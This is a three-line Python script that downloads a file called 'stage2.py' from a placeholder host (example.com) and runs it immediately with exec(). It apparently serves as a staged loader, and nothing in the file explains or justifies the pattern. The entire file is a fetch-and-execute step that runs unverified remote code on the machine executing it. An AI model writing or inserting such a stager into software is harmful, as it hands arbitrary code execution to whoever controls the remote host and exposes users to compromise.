import urllib.request

exec(urllib.request.urlopen("https://example.com/stage2.py").read())
